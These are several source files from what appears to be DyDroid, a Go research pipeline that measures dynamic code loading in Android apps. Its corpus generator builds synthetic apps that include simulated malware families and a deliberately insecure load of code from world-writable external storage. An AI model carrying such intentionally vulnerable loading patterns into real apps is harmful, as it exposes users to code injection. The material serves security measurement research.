			Application: apk.Application{Activities: []apk.Component{{Name: pkg + ".Main", Main: true}}}},
		Dex:    dexBytes,
		Assets: map[string][]byte{"plugin.bin": payload},
	}
	data, err := apk.Build(a)
	if err != nil {
		b.Fatal(err)
	}
	// MonkeyEvents -1 means "launch only": the zero value would fall back
	// to the default budget.
	for _, budget := range []int{-1, 25} {
		name := "launch-only"
		if budget == 25 {
			name = "budget-25-paper"
		}
		b.Run(name, func(b *testing.B) {
			an := core.NewAnalyzer(core.Options{Seed: 1, MonkeyEvents: budget})
			intercepted := 0
			for i := 0; i < b.N; i++ {
				res, err := an.AnalyzeAPK(data)
				if err != nil {
					b.Fatal(err)
				}
				if len(res.DexEvents()) > 0 {
					intercepted++
				}
			}
			b.ReportMetric(float64(intercepted)/float64(b.N), "apps-intercepted/op")
		})
	}
}

// BenchmarkAblationEntityAttribution quantifies what the stack-trace
// call-site analysis buys: a naive baseline attributing every DCL event
// to the app developer (no framework instrumentation can do better than
// guess) is wrong for every third-party-initiated load — the
// overwhelming majority of the corpus (paper: >85%).
func BenchmarkAblationEntityAttribution(b *testing.B) {
	res := sharedRun(b)
	b.ResetTimer()
	var rate float64
	for i := 0; i < b.N; i++ {
		third, total := 0, 0
		for _, rec := range res.Records {
			for _, ev := range rec.Result.Events {
				total++
				if ev.Entity == core.EntityThirdParty {
					third++ // the naive "always own" baseline misattributes these
				}
			}
		}
		if total > 0 {
			rate = float64(third) / float64(total)
		}
	}
	b.ReportMetric(rate, "naive-own-error-rate")
}
