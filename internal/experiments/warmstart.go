package experiments

import (
	"encoding/json"
	"errors"

	"github.com/dydroid/dydroid/internal/apk"
	"github.com/dydroid/dydroid/internal/core"
	"github.com/dydroid/dydroid/internal/corpus"
	"github.com/dydroid/dydroid/internal/metrics"
	"github.com/dydroid/dydroid/internal/resultstore"
)

// WarmVersion stamps warm-start records; open the result store passed to
// Config.Warm with this version so runner format changes invalidate old
// entries.
const WarmVersion = 1

// warmRecord is the serialized form of one AppRecord in the warm-start
// store. Seed and MonkeyEvents travel with the record: a cache built
// under one fuzzing configuration is a miss under another, since the
// digest only addresses the APK contents.
type warmRecord struct {
	Seed         int64                                 `json:"seed"`
	MonkeyEvents int                                   `json:"monkey_events"`
	Meta         corpus.Metadata                       `json:"meta"`
	Result       *core.AppResult                       `json:"result"`
	ReplayLoaded map[core.ReplayConfig]map[string]bool `json:"replay_loaded,omitempty"`
	MalwarePaths map[string]bool                       `json:"malware_paths,omitempty"`
}

// warmDigest computes the content address of one store app. The archive
// build is deterministic, so the digest is stable across runs.
func warmDigest(store *corpus.Store, app *corpus.StoreApp) (string, error) {
	data, err := store.BuildAPK(app)
	if err != nil {
		return "", err
	}
	return apk.SigningDigest(data)
}

// warmLookup consults the warm store for a previously analyzed app.
// Every failure mode — no digest, miss, stale version, configuration
// mismatch, undecodable record — degrades to a plain miss so a warm run
// never fails where a cold one would succeed.
func warmLookup(ws *resultstore.Store, cfg Config, store *corpus.Store, app *corpus.StoreApp, reg *metrics.Registry) (*AppRecord, string) {
	digest, err := warmDigest(store, app)
	if err != nil {
		reg.Add("warm.errors", 1)
		return nil, ""
	}
	raw, err := ws.Get(digest)
	if err != nil {
		if !errors.Is(err, resultstore.ErrNotFound) {
			reg.Add("warm.errors", 1)
		}
		reg.Add("warm.misses", 1)
		return nil, digest
	}
	var wr warmRecord
	if err := json.Unmarshal(raw, &wr); err != nil || wr.Result == nil ||
		wr.Seed != cfg.Seed || wr.MonkeyEvents != cfg.MonkeyEvents {
		reg.Add("warm.misses", 1)
		return nil, digest
	}
	reg.Add("warm.hits", 1)
	return &AppRecord{
		Meta:         wr.Meta,
		Result:       wr.Result,
		ReplayLoaded: wr.ReplayLoaded,
		MalwarePaths: wr.MalwarePaths,
	}, digest
}

// warmSave stores a freshly analyzed record. Failure records are never
// cached — the next run should retry them — and store errors only count,
// they never fail the run.
func warmSave(ws *resultstore.Store, cfg Config, digest string, rec *AppRecord, reg *metrics.Registry) {
	if digest == "" || rec == nil || rec.Err != nil {
		return
	}
	raw, err := json.Marshal(warmRecord{
		Seed:         cfg.Seed,
		MonkeyEvents: cfg.MonkeyEvents,
		Meta:         rec.Meta,
		Result:       rec.Result,
		ReplayLoaded: rec.ReplayLoaded,
		MalwarePaths: rec.MalwarePaths,
	})
	if err == nil {
		err = ws.Put(digest, raw)
	}
	if err != nil {
		reg.Add("warm.errors", 1)
		return
	}
	reg.Add("warm.stores", 1)
}
