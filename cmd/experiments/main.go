// Command experiments regenerates the paper's evaluation tables and
// figures by running the full DyDroid pipeline over a freshly generated
// marketplace.
//
// Usage:
//
//	experiments [-scale 1.0] [-seed 2016] [-workers N] [-table N | -figure 3]
//	            [-o report.txt] [-metrics] [-failfast] [-warm DIR] [-trace DIR]
//
// With no -table/-figure flag the complete report (Tables I-X and
// Figure 3) is printed. With -warm the run keeps a content-addressed
// result store in DIR: re-runs with the same seed and event budget skip
// already-analyzed apps. With -trace the run writes its observability
// artifacts to DIR: traces.jsonl (the slowest apps' span trees, renderable
// with `apkinspect trace`), runstats.json (per-stage exact quantiles) and
// fleet.json (the shard's mergeable measurement snapshot — combine
// sharded runs with `apkinspect fleet merge`).
package main

import (
	"flag"
	"fmt"
	"os"
	"runtime"

	"github.com/dydroid/dydroid/internal/experiments"
	"github.com/dydroid/dydroid/internal/resultstore"
)

func main() {
	scale := flag.Float64("scale", 1.0, "marketplace scale (1.0 = the paper's 58,739 apps)")
	seed := flag.Int64("seed", 2016, "generation and fuzzing seed")
	workers := flag.Int("workers", runtime.GOMAXPROCS(0), "parallel pipeline workers")
	table := flag.Int("table", 0, "print only this table (1-10)")
	figure := flag.Int("figure", 0, "print only this figure (3)")
	out := flag.String("o", "", "write the report to a file instead of stdout")
	quiet := flag.Bool("q", false, "suppress progress output")
	showMetrics := flag.Bool("metrics", false, "print the run's metrics snapshot (per-stage timings, throughput, failure counts) to stderr")
	failFast := flag.Bool("failfast", false, "abort on the first per-app failure instead of recording it and continuing")
	warmDir := flag.String("warm", "", "warm-start result store directory (re-runs skip already-analyzed apps)")
	traceDir := flag.String("trace", "", "write traces.jsonl, runstats.json and fleet.json to this directory")
	stream := flag.Bool("stream", true, "stream the corpus into the workers instead of materializing it (results are identical either way)")
	flag.Parse()

	cfg := experiments.Config{Seed: *seed, Scale: *scale, Workers: *workers, TraceDir: *traceDir, Stream: *stream}
	if *failFast {
		cfg.OnFailure = experiments.FailFast
	}
	if *warmDir != "" {
		ws, err := resultstore.Open(resultstore.Options{Dir: *warmDir, Version: experiments.WarmVersion})
		if err != nil {
			fmt.Fprintln(os.Stderr, "experiments:", err)
			os.Exit(1)
		}
		cfg.Warm = ws
	}
	if !*quiet {
		cfg.Progress = func(done, total int) {
			fmt.Fprintf(os.Stderr, "\ranalyzed %d/%d apps", done, total)
			if done == total {
				fmt.Fprintln(os.Stderr)
			}
		}
	}
	res, err := experiments.Run(cfg)
	if err != nil {
		fmt.Fprintln(os.Stderr, "experiments:", err)
		os.Exit(1)
	}
	if n := res.RunStats.Failed; n > 0 {
		fmt.Fprintf(os.Stderr, "experiments: %d app(s) failed analysis and were recorded as %s:\n%v\n",
			n, "analysis-error", res.Err())
	}
	if *showMetrics {
		fmt.Fprintln(os.Stderr, res.RunStats)
	}

	var report string
	switch {
	case *figure == 3:
		report = res.Figure3()
	case *table != 0:
		sections := map[int]func() string{
			1: res.TableI, 2: res.TableII, 3: res.TableIII, 4: res.TableIV,
			5: res.TableV, 6: res.TableVI, 7: res.TableVII, 8: res.TableVIII,
			9: res.TableIX, 10: res.TableX,
		}
		fn, ok := sections[*table]
		if !ok {
			fmt.Fprintf(os.Stderr, "experiments: no table %d\n", *table)
			os.Exit(2)
		}
		report = fn()
	default:
		report = res.Report()
	}

	if *out != "" {
		if err := os.WriteFile(*out, []byte(report), 0o644); err != nil {
			fmt.Fprintln(os.Stderr, "experiments:", err)
			os.Exit(1)
		}
		fmt.Fprintf(os.Stderr, "report written to %s\n", *out)
		return
	}
	fmt.Print(report)
}
