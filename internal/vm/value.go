package vm

import (
	"fmt"
	"strconv"
)

// Kind tags a Value.
type Kind uint8

// Value kinds.
const (
	KindNull Kind = iota
	KindInt
	KindString
	KindRef
	KindArray
)

// Value is one VM register or field value. Strings are modeled as
// primitive values (rather than heap objects) because every analysis that
// touches them — path extraction, URL tracking, taint — cares about the
// contents, not the identity.
type Value struct {
	Kind Kind
	Int  int64
	Str  string
	Ref  *Object
	Arr  *Array
}

// Null is the null value.
var Null = Value{Kind: KindNull}

// IntVal wraps an integer.
func IntVal(v int64) Value { return Value{Kind: KindInt, Int: v} }

// StrVal wraps a string.
func StrVal(s string) Value { return Value{Kind: KindString, Str: s} }

// RefVal wraps an object reference.
func RefVal(o *Object) Value {
	if o == nil {
		return Null
	}
	return Value{Kind: KindRef, Ref: o}
}

// ArrVal wraps an array reference.
func ArrVal(a *Array) Value {
	if a == nil {
		return Null
	}
	return Value{Kind: KindArray, Arr: a}
}

// Truthy reports whether the value is "non-zero" for if-eqz/if-nez:
// non-zero ints, non-empty strings, and any non-null reference.
func (v Value) Truthy() bool {
	switch v.Kind {
	case KindInt:
		return v.Int != 0
	case KindString:
		return v.Str != ""
	case KindRef, KindArray:
		return true
	default:
		return false
	}
}

// AsInt coerces to an integer (null -> 0, string -> parsed or 0).
func (v Value) AsInt() int64 {
	switch v.Kind {
	case KindInt:
		return v.Int
	case KindString:
		n, _ := strconv.ParseInt(v.Str, 10, 64)
		return n
	default:
		return 0
	}
}

// AsString coerces to a string.
func (v Value) AsString() string {
	switch v.Kind {
	case KindString:
		return v.Str
	case KindInt:
		return strconv.FormatInt(v.Int, 10)
	case KindRef:
		return v.Ref.Class + "@" + strconv.FormatInt(int64(v.Ref.Hash), 16)
	case KindArray:
		return fmt.Sprintf("array[%d]", len(v.Arr.Elems))
	default:
		return ""
	}
}

// Equal compares two values for the if-eq/if-ne instructions.
func (v Value) Equal(o Value) bool {
	if v.Kind != o.Kind {
		// int 0 equals null for branch purposes
		return (v.Kind == KindNull && o.Kind == KindInt && o.Int == 0) ||
			(o.Kind == KindNull && v.Kind == KindInt && v.Int == 0)
	}
	switch v.Kind {
	case KindInt:
		return v.Int == o.Int
	case KindString:
		return v.Str == o.Str
	case KindRef:
		return v.Ref == o.Ref
	case KindArray:
		return v.Arr == o.Arr
	default:
		return true // null == null
	}
}

// Object is a heap object: an instance of an app class or a system class.
// System-class instances carry their Go backing value in Native.
type Object struct {
	Class  string
	Hash   int
	Fields map[string]Value
	// Native holds the backing Go value for system objects (for example a
	// *netsim.InputStream, a *ClassLoader or an activity record).
	Native any
}

// Array is a fixed-length value array.
type Array struct {
	Elems []Value
	Hash  int
}

// Field reads a field (zero Value when unset).
func (o *Object) Field(name string) Value {
	if o.Fields == nil {
		return Null
	}
	return o.Fields[name]
}

// SetField writes a field.
func (o *Object) SetField(name string, v Value) {
	if o.Fields == nil {
		o.Fields = make(map[string]Value)
	}
	o.Fields[name] = v
}
