package nativebin

// Builder constructs SELF libraries programmatically; the corpus generator
// and the packer use it to synthesize decryptor stubs, JNI glue and native
// malware payloads.
type Builder struct {
	lib    Library
	labels map[string]int
	fixups map[int]string
}

// NewBuilder starts a library with the given soname and architecture.
func NewBuilder(soname, arch string) *Builder {
	return &Builder{
		lib:    Library{Soname: soname, Arch: arch},
		labels: make(map[string]int),
		fixups: make(map[int]string),
	}
}

// Data appends bytes to the data segment and returns their absolute
// address (DataBase + offset).
func (b *Builder) Data(p []byte) int64 {
	addr := DataBase + int64(len(b.lib.Data))
	b.lib.Data = append(b.lib.Data, p...)
	return addr
}

// CString appends a NUL-terminated string to the data segment and returns
// its address.
func (b *Builder) CString(s string) int64 {
	return b.Data(append([]byte(s), 0))
}

// Symbol exports the next instruction under the given name.
func (b *Builder) Symbol(name string) *Builder {
	b.lib.Symbols = append(b.lib.Symbols, Symbol{Name: name, Entry: len(b.lib.Code)})
	return b
}

// Label binds a branch label to the next instruction.
func (b *Builder) Label(name string) *Builder {
	b.labels[name] = len(b.lib.Code)
	return b
}

func (b *Builder) emit(in Instr) *Builder {
	b.lib.Code = append(b.lib.Code, in)
	return b
}

func (b *Builder) branch(op Op, label string) *Builder {
	b.fixups[len(b.lib.Code)] = label
	return b.emit(Instr{Op: op})
}

// Build resolves labels and returns the finished library. Unresolved
// labels panic: they are generator bugs, never runtime input.
func (b *Builder) Build() *Library {
	for idx, label := range b.fixups {
		t, ok := b.labels[label]
		if !ok {
			panic("nativebin: unresolved label " + label + " in " + b.lib.Soname)
		}
		b.lib.Code[idx].Target = t
	}
	b.fixups = make(map[int]string)
	return &b.lib
}

// Nop appends a nop.
func (b *Builder) Nop() *Builder { return b.emit(Instr{Op: NopN}) }

// MovI sets rd to an immediate.
func (b *Builder) MovI(rd int, imm int64) *Builder {
	return b.emit(Instr{Op: MovI, Rd: rd, Imm: imm})
}

// MovR copies rs into rd.
func (b *Builder) MovR(rd, rs int) *Builder {
	return b.emit(Instr{Op: MovR, Rd: rd, Rs: rs})
}

// Ldrb loads a byte from [rs+off] into rd.
func (b *Builder) Ldrb(rd, rs int, off int64) *Builder {
	return b.emit(Instr{Op: Ldrb, Rd: rd, Rs: rs, Imm: off})
}

// Strb stores the low byte of rd to [rs+off].
func (b *Builder) Strb(rd, rs int, off int64) *Builder {
	return b.emit(Instr{Op: Strb, Rd: rd, Rs: rs, Imm: off})
}

// Add emits rd = rs + rt.
func (b *Builder) Add(rd, rs, rt int) *Builder {
	return b.emit(Instr{Op: AddR, Rd: rd, Rs: rs, Rt: rt})
}

// Sub emits rd = rs - rt.
func (b *Builder) Sub(rd, rs, rt int) *Builder {
	return b.emit(Instr{Op: SubR, Rd: rd, Rs: rs, Rt: rt})
}

// Xor emits rd = rs ^ rt.
func (b *Builder) Xor(rd, rs, rt int) *Builder {
	return b.emit(Instr{Op: XorR, Rd: rd, Rs: rs, Rt: rt})
}

// And emits rd = rs & rt.
func (b *Builder) And(rd, rs, rt int) *Builder {
	return b.emit(Instr{Op: AndR, Rd: rd, Rs: rs, Rt: rt})
}

// Orr emits rd = rs | rt.
func (b *Builder) Orr(rd, rs, rt int) *Builder {
	return b.emit(Instr{Op: OrrR, Rd: rd, Rs: rs, Rt: rt})
}

// AddI emits rd = rs + imm.
func (b *Builder) AddI(rd, rs int, imm int64) *Builder {
	return b.emit(Instr{Op: AddI, Rd: rd, Rs: rs, Imm: imm})
}

// Cmp compares rs and rt, setting flags.
func (b *Builder) Cmp(rs, rt int) *Builder {
	return b.emit(Instr{Op: Cmp, Rs: rs, Rt: rt})
}

// CmpI compares rs with an immediate, setting flags.
func (b *Builder) CmpI(rs int, imm int64) *Builder {
	return b.emit(Instr{Op: CmpI, Rs: rs, Imm: imm})
}

// B branches unconditionally to the label.
func (b *Builder) B(label string) *Builder { return b.branch(B, label) }

// Beq branches to the label when the flags compare equal.
func (b *Builder) Beq(label string) *Builder { return b.branch(Beq, label) }

// Bne branches to the label when the flags compare not-equal.
func (b *Builder) Bne(label string) *Builder { return b.branch(Bne, label) }

// Blt branches to the label when the flags compare less-than.
func (b *Builder) Blt(label string) *Builder { return b.branch(Blt, label) }

// Bge branches to the label when the flags compare greater-or-equal.
func (b *Builder) Bge(label string) *Builder { return b.branch(Bge, label) }

// Bl calls the named function symbol.
func (b *Builder) Bl(sym string) *Builder {
	return b.emit(Instr{Op: Bl, Sym: sym})
}

// Svc issues the system call with the given number.
func (b *Builder) Svc(num int64) *Builder {
	return b.emit(Instr{Op: Svc, Imm: num})
}

// Ret returns from the current function.
func (b *Builder) Ret() *Builder { return b.emit(Instr{Op: Ret}) }

// Push saves rd on the stack.
func (b *Builder) Push(rd int) *Builder { return b.emit(Instr{Op: Push, Rd: rd}) }

// Pop restores rd from the stack.
func (b *Builder) Pop(rd int) *Builder { return b.emit(Instr{Op: Pop, Rd: rd}) }
