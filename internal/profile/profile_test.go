package profile

import (
	"fmt"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/dydroid/dydroid/internal/events"
	"github.com/dydroid/dydroid/internal/metrics"
	"github.com/dydroid/dydroid/internal/trace"
)

// stubRecorder returns a recorder whose profiler hands back the canned
// deterministic profile instantly and whose clock is controllable.
func stubRecorder(t *testing.T, opts Options) (*Recorder, *time.Time) {
	t.Helper()
	r := New(opts)
	now := time.Date(2026, 8, 7, 12, 0, 0, 0, time.UTC)
	clock := &now
	r.now = func() time.Time { return *clock }
	canned := testProfile(t)
	r.profiler = func(time.Duration) ([]byte, error) { return canned, nil }
	return r, clock
}

func TestCaptureStoresTaggedWindow(t *testing.T) {
	j := events.NewJournal(16)
	reg := metrics.New()
	r, _ := stubRecorder(t, Options{Node: "w1", Journal: j, Metrics: reg})

	w := r.Capture(TriggerWatchdog, "deadbeef", "deadbeefcafe0000")
	if w.ID != "w000001" || w.Node != "w1" || w.Trigger != TriggerWatchdog {
		t.Fatalf("window identity = %+v", w.Meta())
	}
	if w.Digest != "deadbeef" || w.TraceID != "deadbeefcafe0000" {
		t.Fatalf("window tags = %+v", w.Meta())
	}
	if w.Summary == nil || w.Summary.TopFunc() != "fnC" {
		t.Fatalf("summary = %+v", w.Summary)
	}
	if got := r.Get("w000001"); got != w {
		t.Fatal("Get did not return the stored window")
	}

	// Alert-driven captures journal profile-captured with the digest.
	log := j.Log()
	if len(log.Entries) != 1 || log.Entries[0].Type != events.ProfileCaptured {
		t.Fatalf("journal = %+v", log.Entries)
	}
	if log.Entries[0].Digest != "deadbeef" || !strings.Contains(log.Entries[0].Detail, "w000001") {
		t.Fatalf("event = %+v", log.Entries[0])
	}
	if reg.Counter("profile.captures") != 1 {
		t.Fatalf("captures counter = %d", reg.Counter("profile.captures"))
	}

	// Sampler cadence windows do not journal.
	r.Capture(TriggerSampler, "", "")
	if j.Len() != 1 {
		t.Fatalf("sampler window journaled: %+v", j.Log().Entries)
	}
}

func TestTriggerCooldown(t *testing.T) {
	reg := metrics.New()
	r, clock := stubRecorder(t, Options{Cooldown: 10 * time.Second, Metrics: reg})
	// Make triggered captures synchronous for the test by draining via Len.
	if !r.TryTrigger(TriggerWatchdog, "d1", "") {
		t.Fatal("first trigger suppressed")
	}
	if r.TryTrigger(TriggerWatchdog, "d2", "") {
		t.Fatal("second trigger inside cooldown not suppressed")
	}
	// A different trigger key has its own cooldown.
	if !r.TryTrigger(TriggerSLOPrefix+"scan-availability", "d3", "") {
		t.Fatal("distinct trigger key suppressed")
	}
	*clock = clock.Add(11 * time.Second)
	if !r.TryTrigger(TriggerWatchdog, "d4", "") {
		t.Fatal("trigger after cooldown suppressed")
	}
	waitFor(t, func() bool { return r.Len() == 3 })
	if got := reg.Counter("profile.triggers.suppressed"); got != 1 {
		t.Fatalf("suppressed counter = %d", got)
	}
}

func TestRingEviction(t *testing.T) {
	reg := metrics.New()
	r, _ := stubRecorder(t, Options{Cap: 4, Metrics: reg})
	for i := 0; i < 10; i++ {
		r.Capture(TriggerSampler, "", "")
	}
	if r.Len() != 4 {
		t.Fatalf("ring len = %d, want 4", r.Len())
	}
	idx := r.Index()
	if len(idx) != 4 || idx[0].ID != "w000010" || idx[3].ID != "w000007" {
		t.Fatalf("index = %+v", idx)
	}
	if r.Get("w000001") != nil {
		t.Fatal("evicted window still resolvable")
	}
	if got := reg.Counter("profile.evictions"); got != 6 {
		t.Fatalf("evictions = %d, want 6", got)
	}
	if got := reg.Gauge("profile.windows"); got != 4 {
		t.Fatalf("windows gauge = %d, want 4", got)
	}
}

// TestConcurrentCaptureAndReads hammers capture, eviction and the read
// API from many goroutines — the -race companion to the ring bound.
func TestConcurrentCaptureAndReads(t *testing.T) {
	r, _ := stubRecorder(t, Options{Cap: 8})
	var wg sync.WaitGroup
	for g := 0; g < 4; g++ {
		wg.Add(1)
		go func(g int) {
			defer wg.Done()
			for i := 0; i < 25; i++ {
				r.Capture(TriggerSampler, fmt.Sprintf("d%d-%d", g, i), "")
			}
		}(g)
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := 0; i < 50; i++ {
				for _, m := range r.Index() {
					if w := r.Get(m.ID); w != nil && w.ID != m.ID {
						t.Error("Get returned a different window")
					}
				}
			}
		}()
	}
	wg.Wait()
	if r.Len() != 8 {
		t.Fatalf("ring len = %d, want 8", r.Len())
	}
	if got := len(r.Index()); got != 8 {
		t.Fatalf("index len = %d, want 8", got)
	}
}

func TestNilRecorderIsInert(t *testing.T) {
	var r *Recorder
	if r.Capture(TriggerSampler, "", "") != nil {
		t.Fatal("nil capture returned a window")
	}
	if r.TryTrigger(TriggerWatchdog, "", "") {
		t.Fatal("nil trigger fired")
	}
	if r.Len() != 0 || r.Index() != nil || r.Get("x") != nil {
		t.Fatal("nil reads not empty")
	}
}

func TestMeterSpanStampsCostAttrs(t *testing.T) {
	tr := trace.New("scan")
	sp := tr.Root.StartChild("unpack")
	stop := MeterSpan(sp)
	sink := make([][]byte, 0, 64)
	for i := 0; i < 64; i++ {
		sink = append(sink, make([]byte, 1024))
	}
	stop()
	stop() // second call is a no-op
	sp.End()
	_ = sink
	if sp.Attr(AttrCPUNS) == "" || sp.Attr(AttrAllocBytes) == "" || sp.Attr(AttrAllocObjects) == "" {
		t.Fatalf("missing cost attrs: %+v", sp.Attrs)
	}
	// Alloc accounting aggregates per-P caches, so allow slack below the
	// nominal 64 KiB allocated above.
	if got := sp.IntAttr(AttrAllocBytes); got < 32*1024 {
		t.Fatalf("alloc.bytes = %d, want >= %d", got, 32*1024)
	}
	if sp.IntAttr(AttrCPUNS) < 0 || sp.IntAttr(AttrAllocObjects) < 32 {
		t.Fatalf("cpu.ns=%d alloc.objects=%d", sp.IntAttr(AttrCPUNS), sp.IntAttr(AttrAllocObjects))
	}
	// A nil span meters to a no-op.
	MeterSpan(nil)()
}

func TestRenderTopAndDiff(t *testing.T) {
	r, clock := stubRecorder(t, Options{Node: "w1"})
	oldW := r.Capture(TriggerSampler, "", "")
	*clock = clock.Add(time.Minute)
	newW := r.Capture(TriggerWatchdog, "deadbeef", "")
	// Skew the new window so the diff has a regression to show.
	newW.Summary.Top[0].FlatNS *= 3

	var top strings.Builder
	RenderTop(&top, newW, 10)
	for _, want := range []string{"trigger=watchdog", "digest=deadbeef", "fnC", "top functions by flat self-time"} {
		if !strings.Contains(top.String(), want) {
			t.Fatalf("top output missing %q:\n%s", want, top.String())
		}
	}

	var diff strings.Builder
	RenderDiff(&diff, oldW, newW, 10)
	out := diff.String()
	if !strings.Contains(out, "fnC") || !strings.Contains(out, "+200.0%") {
		t.Fatalf("diff output missing regression row:\n%s", out)
	}

	var idx strings.Builder
	RenderIndex(&idx, r.Index())
	if !strings.Contains(idx.String(), "w000002") || !strings.Contains(idx.String(), "watchdog") {
		t.Fatalf("index output:\n%s", idx.String())
	}
}

func waitFor(t *testing.T, cond func() bool) {
	t.Helper()
	deadline := time.Now().Add(5 * time.Second)
	for time.Now().Before(deadline) {
		if cond() {
			return
		}
		time.Sleep(2 * time.Millisecond)
	}
	t.Fatal("condition not reached in time")
}
