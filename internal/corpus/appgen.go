package corpus

import (
	"fmt"
	"sync"
	"time"

	"github.com/dydroid/dydroid/internal/android"
	"github.com/dydroid/dydroid/internal/apk"
	"github.com/dydroid/dydroid/internal/dex"
	"github.com/dydroid/dydroid/internal/nativebin"
	"github.com/dydroid/dydroid/internal/obfuscation"
)

// Spec is the ground-truth description of one generated app. The
// generator derives an APK from it; the measurement pipeline should
// recover exactly these facts.
type Spec struct {
	Pkg       string
	Category  string
	MinSDK    int
	Archetype string

	// DEX-side DCL behaviours.
	AdMob           bool   // Google-Ads-style temp-file load (third party)
	RemoteURL       string // Baidu-style remote fetch (third party)
	RemoteURL2      string // second remote payload (the cnad JAR+APK pattern)
	GenericThirdDex bool   // generic SDK plugin load (third party)
	OwnDex          bool   // developer's own update load
	DexCodeOnly     bool   // loader code present but never executed
	VulnExternalDex bool   // own load from world-writable external storage

	// Native-side DCL behaviours.
	AdNative        bool // ad SDK loads its native renderer (third party)
	ThirdNative     bool // game-engine SDK loads a lib (third party)
	OwnNative       bool // developer loads own lib
	NativeCodeOnly  bool // lib bundled / load call present, never executed
	VulnAdobeAir    bool // loads com.adobe.air's libCore.so
	VulnDevicescape bool // loads the Devicescape offloader lib

	// Malware.
	MalwareFamily string // "", "swiss", "adware", "chathook"
	MalwareFiles  int    // number of malicious files (chathook: 1 or 2)
	Gates         []Gate // one per malicious file
	ReleaseDate   time.Time

	// Failure injection.
	AntiRepack    bool
	NoActivity    bool
	CrashAtLaunch bool

	// Obfuscation.
	Lexical       bool
	Reflection    bool
	AntiDecompile bool
	Packed        bool
	PackKey       byte

	// Privacy behaviours of the loaded code.
	LeakThird    []android.DataType
	LeakOwn      []android.DataType
	ReadSettings bool
}

// payloadCache shares identical payload bytes across apps. The libs map
// is filled lazily by concurrent pipeline workers building APKs, so all
// access goes through the mutex.
type payloadCache struct {
	ad     []byte
	swiss  []byte
	adware []byte
	mu     sync.Mutex
	libs   map[string][]byte
}

func newPayloadCache() (*payloadCache, error) {
	c := &payloadCache{libs: make(map[string][]byte)}
	var err error
	if c.ad, err = adPayloadDex(); err != nil {
		return nil, err
	}
	if c.swiss, err = swissPayloadDex(); err != nil {
		return nil, err
	}
	if c.adware, err = adwarePayloadDex(); err != nil {
		return nil, err
	}
	return c, nil
}

func (c *payloadCache) lib(name string, build func() (*nativebin.Library, error)) ([]byte, error) {
	c.mu.Lock()
	if data, ok := c.libs[name]; ok {
		c.mu.Unlock()
		return data, nil
	}
	c.mu.Unlock()
	// Build outside the lock; generation is deterministic, so a racing
	// duplicate build produces identical bytes and either may win.
	lib, err := build()
	if err != nil {
		return nil, err
	}
	data, err := nativebin.Encode(lib)
	if err != nil {
		return nil, err
	}
	c.mu.Lock()
	c.libs[name] = data
	c.mu.Unlock()
	return data, nil
}

// cachedLib returns an already-built library's bytes (nil if absent).
func (c *payloadCache) cachedLib(name string) []byte {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.libs[name]
}

// Build derives the APK for the spec.
func (s *Spec) Build(cache *payloadCache) (*apk.APK, error) {
	if s.Packed {
		return s.buildPacked(cache)
	}
	a, err := s.buildPlain(cache)
	if err != nil {
		return nil, err
	}
	if s.Lexical {
		if a, err = obfuscation.LexicalRename(a); err != nil {
			return nil, fmt.Errorf("corpus: %s: %w", s.Pkg, err)
		}
	}
	if s.AntiDecompile {
		if a, err = obfuscation.AddAntiDecompilation(a); err != nil {
			return nil, fmt.Errorf("corpus: %s: %w", s.Pkg, err)
		}
	}
	if s.AntiRepack {
		if a.Extra == nil {
			a.Extra = make(map[string][]byte)
		}
		a.Extra[apk.AntiRepackEntry] = []byte{1}
	}
	return a, nil
}

// buildPacked builds a simple inner app and packs it.
func (s *Spec) buildPacked(cache *payloadCache) (*apk.APK, error) {
	inner := &Spec{Pkg: s.Pkg, Category: s.Category, MinSDK: s.MinSDK}
	a, err := inner.buildPlain(cache)
	if err != nil {
		return nil, err
	}
	key := s.PackKey
	if key == 0 {
		key = 0x5a
	}
	packed, err := obfuscation.Pack(a, key)
	if err != nil {
		return nil, fmt.Errorf("corpus: pack %s: %w", s.Pkg, err)
	}
	return packed, nil
}

func (s *Spec) buildPlain(cache *payloadCache) (*apk.APK, error) {
	b := dex.NewBuilder()
	a := &apk.APK{
		Manifest: apk.Manifest{
			Package: s.Pkg,
			MinSDK:  s.minSDK(),
			Application: apk.Application{
				Label: s.Pkg,
			},
		},
		Assets:     map[string][]byte{},
		NativeLibs: map[string][]byte{},
		Extra:      map[string][]byte{},
	}

	// The component holding the app's entry point.
	hostClass := s.Pkg + ".MainActivity"
	var host *dex.ClassBuilder
	if s.NoActivity {
		hostClass = s.Pkg + ".SyncService"
		host = b.Class(hostClass, "android.app.Service")
		a.Manifest.Application.Services = append(a.Manifest.Application.Services,
			apk.Component{Name: hostClass})
	} else {
		host = b.Class(hostClass, "android.app.Activity")
		a.Manifest.Application.Activities = append(a.Manifest.Application.Activities,
			apk.Component{Name: hostClass, Main: true,
				Actions: []apk.Action{{Name: "android.intent.action.MAIN"}}})
	}

	entry := host.Method("onCreate", dex.ACCPublic, 8, "V", "Landroid/os/Bundle;")
	if s.CrashAtLaunch {
		entry.ConstString(1, "NullPointerException").Throw(1)
	}

	if s.AdMob {
		if err := s.addAdSDK(b, a, entry, cache); err != nil {
			return nil, err
		}
	}
	if s.RemoteURL != "" {
		s.addBaiduSDK(b, entry)
	}
	if s.GenericThirdDex {
		if err := s.addGenericPluginSDK(b, a, entry, cache); err != nil {
			return nil, err
		}
	}
	if s.OwnDex {
		if err := s.addOwnUpdater(b, a, entry, cache); err != nil {
			return nil, err
		}
	}
	if s.VulnExternalDex {
		if err := s.addVulnExternal(b, a, entry, cache); err != nil {
			return nil, err
		}
		a.Manifest.AddPermission(apk.WriteExternalStorage)
	}
	if s.DexCodeOnly {
		addDormantDexLoader(host)
	}

	if s.AdNative {
		if err := s.addAdNative(b, a, entry, cache); err != nil {
			return nil, err
		}
	}
	if s.ThirdNative {
		if err := s.addEngineSDK(b, a, entry, cache); err != nil {
			return nil, err
		}
	}
	if s.OwnNative {
		if err := s.addOwnNative(a, entry, cache); err != nil {
			return nil, err
		}
	}
	if s.VulnAdobeAir {
		entry.ConstString(1, android.InternalDir(AdobeAirPackage)+"lib/libCore.so").
			InvokeStatic(refLoad, 1)
	}
	if s.VulnDevicescape {
		entry.ConstString(1, android.InternalDir(DevicescapePackage)+"lib/libdevicescape-jni.so").
			InvokeStatic(refLoad, 1)
	}
	if s.NativeCodeOnly {
		lib, err := cache.lib("libdormant.so", func() (*nativebin.Library, error) {
			return benignLib("libdormant.so", 0)
		})
		if err != nil {
			return nil, err
		}
		a.NativeLibs["libdormant.so"] = lib
	}

